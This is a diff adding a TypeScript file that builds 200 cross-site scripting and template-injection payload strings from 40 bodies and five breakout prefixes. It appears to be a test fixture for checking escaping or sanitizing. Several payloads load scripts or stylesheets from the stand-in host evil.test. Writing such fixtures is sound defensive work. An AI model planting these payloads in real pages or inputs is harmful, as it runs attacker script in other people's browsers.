@@ -1,0 +1,50 @@
+/** 40 ways to have a text taken for markup, script, address or template, in 60 characters with any prefix. */
+const bodies = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=//evil.test/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert`1`>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script>',
+  '<svg><animate onbegin=alert(1)>',
+  '<body onload=alert(1)>',
+  '<iframe src=javascript:alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data=javascript:alert(1)>',
+  '<embed src=javascript:alert(1)>',
+  '<a href=javascript:alert(1)>x</a>',
+  '<a href="data:text/html,<script>alert(1)">x',
+  '<form action=javascript:alert(1)><button>x',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<math><mi xlink:href=javascript:alert(1)>',
+  '<style>@import"//evil.test/x.css";</style>',
+  '<link rel=stylesheet href=//evil.test/x.css>',
+  '<meta http-equiv=refresh content=0;//evil.test>',
+  '<base href=//evil.test/>',
+  '<div style=background:url(//evil.test)>',
+  '<p onmouseover=alert(1)>x</p>',
+  ' onerror=alert(1) x=',
+  ' autofocus onfocus=alert(1) x=',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '${alert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<%= alert(1) %>',
+  '\\u003cscript\\u003ealert(1)',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#x3c;img src=x onerror=alert(1)&#x3e;',
+  '\u202e<img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img onerror=1>">',
+] as const;
+
+const prefixes = ['', '"', "'>", '-->', '</title>'] as const;
+
+/** 200 texts; none means anything to us. */
+export const payloads: readonly string[] = prefixes.flatMap((prefix) =>
+  bodies.map((body) => `${prefix}${body}`),
+);
